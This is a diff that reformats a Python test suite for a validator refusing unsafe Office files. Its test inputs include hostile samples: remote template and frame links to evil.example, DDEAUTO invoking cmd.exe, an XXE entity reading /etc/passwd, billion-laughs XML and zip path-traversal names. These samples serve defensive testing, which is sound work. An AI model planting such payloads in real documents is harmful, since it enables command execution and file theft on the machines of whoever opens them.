@@ -29,12 +29,30 @@ def check(data, kind="docx"):
         (xlsx(), "xlsx"),
         (odt(), "odt"),
         (docx({RELS: relations("hyperlink", "https://example.vn/")}), "docx"),
-        (docx({RELS: relations("attachedTemplate", "file:///C:%5CUsers%5CAn%5CNormal.dotm")}), "docx"),
+        (
+            docx({RELS: relations("attachedTemplate", "file:///C:%5CUsers%5CAn%5CNormal.dotm")}),
+            "docx",
+        ),
         (docx({RELS: relations("attachedTemplate", "Normal.dotm")}), "docx"),
         (docx({RELS: relations("image", "https://example.vn/a.png")}), "docx"),
-        (docx({"word/media/image1.png": b"x" * 500, "word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x"}), "docx"),
+        (
+            docx(
+                {
+                    "word/media/image1.png": b"x" * 500,
+                    "word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x",
+                }
+            ),
+            "docx",
+        ),
         (xlsx({"xl/printerSettings/printerSettings1.bin": b"x" * 500}), "xlsx"),
-        (docx({"customXml/item1.xml": b'\xff\xfe<\0?\0x\0m\0l\0 \0v\0e\0r\0s\0i\0o\0n\0=\0"\0001\0.\0000\0"\0?\0>\0<\0a\0/\0>\0'}), "docx"),
+        (
+            docx(
+                {
+                    "customXml/item1.xml": b'\xff\xfe<\0?\0x\0m\0l\0 \0v\0e\0r\0s\0i\0o\0n\0=\0"\0001\0.\0000\0"\0?\0>\0<\0a\0/\0>\0'
+                }
+            ),
+            "docx",
+        ),
     ],
 )
 def test_ordinary_documents_pass(data, kind):
@@ -94,7 +112,10 @@ def test_macros_and_embedded_programs_are_refused(name):
         relations("frame", "http://evil.example/"),
         relations("subDocument", "mhtml:http://evil.example/"),
         relations("aFChunk", "afchunk.bin", "Internal"),
-        relations("attachedTemplate", "https://evil.example/t.dotm").decode().replace("External", "&#69;xternal").encode(),
+        relations("attachedTemplate", "https://evil.example/t.dotm")
+        .decode()
+        .replace("External", "&#69;xternal")
+        .encode(),
         relations("attachedTemplate", "https://evil.example/t.dotm").decode().encode("utf-16"),
     ],
 )
@@ -108,8 +129,14 @@ def test_what_would_be_fetched_on_opening_is_refused(content):
     [
         ("word/footer1.xml", b"<w:instrText> DDEAUTO c:\\windows\\cmd.exe</w:instrText>"),
         ("word/header1.xml", b"<a>" + b" " * 65_530 + b"DDEAUTO</a>"),
-        ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
-        ("xl/externalLinks/externalLink2.xml", b'<x:externalLink><x:ddeLink ddeService="cmd"/></x:externalLink>'),
+        (
+            "xl/externalLinks/externalLink1.xml",
+            b'<externalLink><ddeLink ddeService="cmd"/></externalLink>',
+        ),
+        (
+            "xl/externalLinks/externalLink2.xml",
+            b'<x:externalLink><x:ddeLink ddeService="cmd"/></x:externalLink>',
+        ),
     ],
 )
 def test_commands_to_other_programs_are_refused(name, content):
@@ -128,7 +155,14 @@ OUTSIDE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
 
 
 @pytest.mark.parametrize(
-    "content", [LAUGHS, OUTSIDE, b"<!DOCTYPE a><a/>", LAUGHS.decode().encode("utf-16"), b"<!--" + b"x" * 500 + b"-->" + OUTSIDE]
+    "content",
+    [
+        LAUGHS,
+        OUTSIDE,
+        b"<!DOCTYPE a><a/>",
+        LAUGHS.decode().encode("utf-16"),
+        b"<!--" + b"x" * 500 + b"-->" + OUTSIDE,
+    ],
 )
 @pytest.mark.parametrize("name", ["word/styles.xml", RELS, "docProps/core.xml"])
 def test_document_types_in_xml_are_refused(content, name):
@@ -136,13 +170,19 @@ def test_document_types_in_xml_are_refused(content, name):
         check(docx({name: content}))
 
 
-@pytest.mark.parametrize("content", [b"", b"<!-- only -->", b"\x00\x01\x02", b"<!--" + b"x" * 200_000 + b"--><a/>", b"no xml"])
+@pytest.mark.parametrize(
+    "content",
+    [b"", b"<!-- only -->", b"\x00\x01\x02", b"<!--" + b"x" * 200_000 + b"--><a/>", b"no xml"],
+)
 def test_xml_that_is_none_is_refused(content):
     with pytest.raises(FileRefused, match=BROKEN):
         check(docx({"word/styles.xml": content, **NOISE}))
 
 
-@pytest.mark.parametrize("name", ["../evil.xml", "word/../../evil.txt", "/etc/passwd", "C:/evil.txt", "word\\evil.txt", "a/.."])
+@pytest.mark.parametrize(
+    "name",
+    ["../evil.xml", "word/../../evil.txt", "/etc/passwd", "C:/evil.txt", "word\\evil.txt", "a/.."],
+)
 def test_names_that_lead_out_are_refused(name):
     data = docx({"Z" * len(name): b"x"}).replace(b"Z" * len(name), name.encode())
     with pytest.raises(FileRefused, match=BROKEN):
@@ -197,7 +237,10 @@ def patched_sizes(data, name, size):
     """The same archive, its list and its entry claiming another size."""
     with zipfile.ZipFile(io.BytesIO(data)) as made:
         entry = made.getinfo(name)
-    old, new = struct.pack("<LL", entry.compress_size, entry.file_size), struct.pack("<LL", entry.compress_size, size)
+    old, new = (
+        struct.pack("<LL", entry.compress_size, entry.file_size),
+        struct.pack("<LL", entry.compress_size, size),
+    )
     return data.replace(old, new)
 
 
@@ -266,6 +309,11 @@ def test_deep_nesting_is_not_followed():
 @given(st.binary(max_size=200), st.integers(0, 400), st.binary(min_size=1, max_size=4))
 def test_only_a_refusal_is_ever_raised(junk, place, change):
     base = docx({"word/a.xml": b"<a/>" + junk, RELS: junk or b"<a/>"})
-    for data in (junk, b"PK\x03\x04" + junk, base[:place] + change + base[place + len(change) :], base[: -place or None]):
+    for data in (
+        junk,
+        b"PK\x03\x04" + junk,
+        base[:place] + change + base[place + len(change) :],
+        base[: -place or None],
+    ):
         with contextlib.suppress(FileRefused):
             check(data)
